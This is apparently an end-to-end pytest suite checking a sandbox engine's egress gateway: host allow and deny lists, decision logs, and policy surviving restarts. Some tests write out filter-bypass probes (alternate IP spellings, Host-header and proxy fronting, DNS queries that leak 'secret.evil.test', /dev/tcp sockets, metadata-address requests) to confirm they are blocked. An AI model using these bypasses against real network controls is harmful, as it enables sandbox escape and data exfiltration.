"""Sandboxes of a real engine, its gateway and packet filter, on a host with an internet."""

import json
import os
import signal
from pathlib import Path

import pytest

from e2e.engine.egress.conftest import Node
from e2e.hosts import SANDBOXES
from e2e.network import internet as net
from integration.server.engines import eventually

pytestmark = pytest.mark.e2e


def reached(node: Node, id: str, url: str, options: str = "") -> str:
    """Return the status of an answer, "" where there is none."""
    shell = f"curl -s -m 5 -o /dev/null -w '%{{http_code}}' {options} '{url}' || true"
    return node.shell(id, shell).replace("000", "")


def log(node: Node, id: str) -> list[dict[str, object]]:
    answer = node.client.get(
        f"{SANDBOXES}/{id}/network/log", headers={"accept": "application/x-ndjson"}
    )
    return [json.loads(line) for line in answer.text.splitlines()]


def gateway(node: Node) -> int:
    """Return the process id of the gateway that was started last."""
    state = json.loads((node.host.state_dir / "egress" / "gateway.json").read_text())
    return int(state["pid"])


def test_without_a_policy_everything_public_is_reached(node: Node) -> None:
    for url in ("http://allowed.test/", "http://six.test/", f"http://{net.PUBLIC}/"):
        assert reached(node, "a", url) == "200", url
    assert reached(node, "a", "https://allowed.test/", "-k") == "200"
    for url in ("http://rebound.test/", f"http://{net.METADATA}/", "http://10.9.9.9/",
                f"http://[{net.METADATA6}]/", f"http://{net.UPLINK}:8787/"):  # fmt: skip
        assert reached(node, "a", url) == "", url


def test_lists_change_what_is_reached_while_it_runs(node: Node) -> None:
    assert reached(node, "a", "http://other.test/") == "200"
    node.change("a", allowedHosts=["allowed.test", "*.many.test"])
    assert reached(node, "a", "http://allowed.test/") == "200"
    assert reached(node, "a", "http://x.y.many.test/") == "200"
    assert reached(node, "a", "http://other.test/") == ""
    assert reached(node, "a", f"http://{net.OTHER}/") == "520"
    node.change("a", allowedHosts=[], deny=["other.test"])
    assert reached(node, "a", "http://other.test/") == ""
    assert reached(node, "a", "http://allowed.test/") == "200"
    node.change("a", deniedHosts=None)
    assert reached(node, "a", "http://other.test/") == "200"


WAYS_ROUND = [
    f"http://{net.OTHER}/", "http://denied.test./", "http://DENIED.test/",
    f"http://[::ffff:{net.OTHER}]/", "http://3405803857/", "http://0xcb007151/",
    f"http://allowed.test@{net.OTHER}/",
]  # fmt: skip


@pytest.mark.parametrize("ipv6", ["", "-6"])
def test_no_spelling_and_no_other_way_gets_round_a_list(node: Node, ipv6: str) -> None:
    """Probes 13 and 14, by curl, raw sockets, DNS; each has a counterpart that is reached."""
    node.change("a", allowedHosts=["allowed.test", "one.shared.test", "six.test"])
    assert reached(node, "a", "http://six.test/" if ipv6 else "http://allowed.test/") == "200"
    before = len(node.web.requests)
    for url in WAYS_ROUND:
        assert reached(node, "a", url, f"--noproxy '*' {ipv6}") in {"", "520"}, url
    fronted = [
        (f"http://{net.PUBLIC}/", "-H 'Host: denied.test'"),
        ("http://two.shared.test/", f"--resolve two.shared.test:80:{net.SHARED}"),
        ("https://two.shared.test/", f"-k --resolve two.shared.test:443:{net.SHARED}"),
        ("http://allowed.test/", f"--connect-to allowed.test:80:{net.OTHER}:80"),
        ("http://denied.test/", "--proxy http://allowed.test:80"),
        ("https://denied.test/", "-k --proxy http://allowed.test:80"),
    ]
    assert reached(node, "a", "http://one.shared.test/") == "200"
    for url, options in fronted:
        assert reached(node, "a", url, options) in {"", "403", "405", "520", "400"}, url
    assert len(node.web.requests) == before + 1
    assert not [seen for seen in node.web.requests[before:] if "denied" in seen.host]


def test_dns_is_no_way_out(node: Node) -> None:
    node.change("a", allowedHosts=["allowed.test"])
    ask = (
        "import socket,struct,sys\n"
        "def ask(server, name):\n"
        "    q=struct.pack('!6H',7,256,1,0,0,0)+b''.join(bytes([len(x)])+x.encode() for x in"
        " name.split('.'))+b'\\0'+struct.pack('!2H',1,1)\n"
        "    s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(2)\n"
        "    s.sendto(q,(server,53))\n"
        "    try: a=s.recv(999); return a[3]&15, int.from_bytes(a[6:8],'big')\n"
        "    except OSError: return None\n"
        "print(ask('8.8.8.8','allowed.test'), ask('8.8.8.8','secret.evil.test'),"
        " ask('203.0.113.53','secret.evil.test'))\n"
        "for kind, port in ((socket.SOCK_DGRAM, 5353), (socket.SOCK_STREAM, 853)):\n"
        "    s=socket.socket(socket.AF_INET,kind); s.settimeout(2)\n"
        "    try: s.connect(('8.8.8.8',port)); s.send(b'x'); print(len(s.recv(9)))\n"
        "    except OSError: print('-')\n"
    )
    node.client.put(f"{SANDBOXES}/a/files", params={"path": "/tmp/ask.py"}, content=ask.encode())
    lines = node.shell("a", "python3 /tmp/ask.py").splitlines()
    allowed, evil, again = lines[0].split(") (")[0], *lines[0].split(") (")[1:]
    assert allowed.startswith("(0, 1")
    assert not evil.startswith("0, 1")
    assert not again.startswith("0, 1")
    assert set(lines[1:]) <= {"-", "0"}
    assert not node.web.names.asked("evil.test")
    assert node.web.names.asked("allowed.test")


def test_an_open_connection_that_a_list_forbids_is_cut(node: Node) -> None:
    node.shell("a", "true")
    hold = (
        "exec 3<>/dev/tcp/203.0.113.80/7; echo a >&3; read -t 5 x <&3; echo got $x; touch /tmp/ok;"
        " for n in $(seq 100); do [ -e /tmp/go ] && break; sleep 0.1; done;"
        " echo b >&3; read -t 3 y <&3; echo got $y"
    )
    start = node.client.post(f"{SANDBOXES}/a/processes", json={"command": f"bash -c '{hold}'"})
    id = start.json()["id"]
    eventually(lambda: node.shell("a", "ls /tmp/ok || true").strip() == "/tmp/ok", 20)
    node.change("a", allowedHosts=["allowed.test"])
    node.shell("a", "touch /tmp/go")
    url = f"{SANDBOXES}/a/processes/{id}"
    eventually(lambda: node.client.get(url).json()["status"] != "running", 20)
    out = node.client.get(url + "/logs").json()["stdout"]
    assert "got a" in out
    assert "got b" not in out


def test_a_policy_outlives_the_engine_and_the_gateway(node: Node) -> None:
    node.change("a", allowedHosts=["allowed.test"])
    assert reached(node, "a", "http://allowed.test/") == "200"
    first = gateway(node)
    node.client.close()
    node.engine.end(signal.SIGKILL)
    assert Path(f"/proc/{first}").exists(), "sandboxes go on without an engine"
    node.start()
    assert gateway(node) == first
    assert reached(node, "a", "http://allowed.test/") == "200"
    assert reached(node, "a", f"http://{net.OTHER}/") == "520"
    os.kill(first, signal.SIGKILL)
    eventually(lambda: gateway(node) != first, 20)
    eventually(lambda: reached(node, "a", "http://allowed.test/") == "200", 20)
    assert "/egress/user\n" in Path(f"/proc/{gateway(node)}/cgroup").read_text()
    assert reached(node, "a", f"http://{net.OTHER}/") in {"", "520"}
    node.client.post(f"{SANDBOXES}/a/stop")
    assert reached(node, "a", f"http://{net.OTHER}/") in {"", "520"}, "woken with it"


def test_a_gateway_that_nobody_wrote_down_is_ended(node: Node) -> None:
    """The engine was killed between the start of the process and the note of it."""
    first = gateway(node)
    node.client.close()
    node.engine.end(signal.SIGKILL)
    (node.host.state_dir / "egress" / "gateway.json").unlink()
    node.start()
    eventually(lambda: not Path(f"/proc/{first}").exists(), 20)
    assert gateway(node) != first
    assert reached(node, "a", "http://allowed.test/") == "200"


def test_a_dead_gateway_lets_nothing_past_it(node: Node) -> None:
    node.change("a", allowedHosts=["allowed.test"])
    node.shell("a", "true")
    node.engine.process.send_signal(signal.SIGSTOP)  # nobody starts it again
    try:
        os.kill(gateway(node), signal.SIGKILL)
        eventually(lambda: not Path(f"/proc/{gateway(node)}/exe").exists())
    finally:
        node.engine.process.send_signal(signal.SIGCONT)
    assert reached(node, "a", f"http://{net.OTHER}/") in {"", "520"}
    assert all(seen.local != net.OTHER for seen in node.web.requests)


def test_every_decision_is_in_the_log(node: Node) -> None:
    node.change("a", allowedHosts=["allowed.test"])
    assert reached(node, "a", "http://allowed.test/p?secret=1") == "200"
    assert reached(node, "a", "http://other.test/") == ""

    def told() -> dict[tuple[object, ...], dict[str, object]]:
        return {(e["protocol"], e["verdict"], e["host"]): e for e in log(node, "a")}

    went, stayed = ("http", "allowed", "allowed.test"), ("dns", "refused", "other.test")
    eventually(lambda: {went, stayed} <= told().keys())
    assert told()[went]["path"] == "/p"
    assert told()[stayed]["rule"] == "not in allowed_hosts"
    assert log(node, "a")[0]["cursor"]


REFUSED = "refused"
"""A sandbox of one test: events of an id outlive its sandboxes, and an engine's memory of them."""


def refusals(node: Node) -> list[str]:
    answer = node.client.get(
        f"{SANDBOXES}/{REFUSED}/events", headers={"accept": "application/x-ndjson"}
    )
    found = [json.loads(line) for line in answer.text.splitlines()]
    return [event["reason"] for event in found if event["type"] == "refused"]


def test_the_first_refusal_of_each_kind_is_an_event(node: Node) -> None:
    """By the packet filter, which may lose what it tells under load, and by the gateway."""

    def refuse(url: str, reason: str) -> None:
        def told() -> bool:
            assert reached(node, REFUSED, url) in {"", "520"}
            return reason in refusals(node)

        eventually(told, 30)
        assert told()

    metadata = f"{net.METADATA}:80: private address"
    name, bare = (f"{what}: not in allowed_hosts" for what in ("other.test", f"{net.OTHER}:80"))
    refuse(f"http://{net.METADATA}/", metadata)
    node.change(REFUSED, allowedHosts=["allowed.test"])
    assert reached(node, REFUSED, "http://allowed.test/") == "200"
    refuse("http://other.test/", name)
    refuse(f"http://{net.OTHER}/", bare)
    assert [refusals(node).count(reason) for reason in (metadata, name, bare)] == [1, 1, 1]
    assert node.client.delete(f"{SANDBOXES}/{REFUSED}").status_code == 200


def test_direct_connections_are_in_the_log_too(node: Node) -> None:
    assert reached(node, "a", "http://allowed.test/") == "200"
    assert reached(node, "a", f"http://{net.METADATA}/") == ""
    node.client.post(f"{SANDBOXES}/a/stop")  # nothing is tracked any more, so all has ended

    def told() -> bool:
        found = {(e["protocol"], e["address"], e["verdict"]) for e in log(node, "a")}
        wanted = {("tcp", net.PUBLIC, "allowed"), ("tcp", net.METADATA, "refused")}
        return wanted <= found

    eventually(told)


def test_https_is_opened_with_an_authority_that_common_tools_trust(node: Node) -> None:
    config = {"egress": {"interceptHttps": True}}
    assert node.client.put("/v2/namespaces/N", json=config).status_code == 200
    assert reached(node, "a", "https://allowed.test/x") == "200"
    python = 'import urllib.request as u; print(u.urlopen("https://allowed.test/y").status)'
    assert node.shell("a", f"python3 -c '{python}'").strip() == "200"
    node_js = (
        'require("https").get("https://allowed.test/z", r => { console.log(r.statusCode); process.exit() })'
        '.on("error", e => console.log(e.message))'
    )
    assert node.shell("a", f"node -e '{node_js}'").strip() == "200"
    told = ["/x", "/y", "/z"]  # each when its connection has ended
    eventually(lambda: [e["path"] for e in log(node, "a") if e["protocol"] == "https"] == told)
